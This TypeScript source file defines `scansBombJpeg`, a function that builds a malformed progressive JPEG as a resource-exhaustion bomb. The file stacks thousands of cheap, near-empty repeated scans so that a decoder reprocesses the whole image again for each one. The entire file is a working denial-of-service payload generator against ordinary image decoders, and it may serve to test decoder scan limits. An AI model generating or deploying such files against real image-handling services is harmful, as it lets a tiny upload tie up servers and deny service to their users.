/** Each scan repeats how all its squares go on: a few bytes for as many of them as this. */
const squaresPerRun = 16_384;
const bitsPerRun = 15;

/** A flat progressive JPEG whose reader passes over the whole picture again for every one of `scans`: 130 bytes each. */
export function scansBombJpeg(sidePx: number, scans: number): Buffer {
  const squares = Math.ceil(sidePx / 8) ** 2;
  // Of both tables only the code `0` is used: nothing changes here, so the data are zeros.
  const flat = segment(0xda, [1, 1, 0x00, 0, 0, 0]);
  const detail = segment(0xda, [1, 1, 0x00, 1, 63, 0]);
  const runs = Buffer.alloc(Math.ceil((Math.ceil(squares / squaresPerRun) * bitsPerRun) / 8));
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, ...Array<number>(64).fill(1)]),
    segment(0xc2, [8, sidePx >> 8, sidePx & 255, sidePx >> 8, sidePx & 255, 1, 1, 0x11, 0]),
    segment(0xc4, [0x00, 1, ...Array<number>(15).fill(0), 0x00]),
    segment(0xc4, [0x10, 1, ...Array<number>(15).fill(0), 0xe0]),
    flat,
    Buffer.alloc(Math.ceil(squares / 8)),
    ...Array.from({ length: scans }, () => [detail, runs]).flat(),
    Buffer.from([0xff, 0xd9]),
  ]);
}

function segment(marker: number, data: number[]): Buffer {
  const length = data.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 255, ...data]);
}
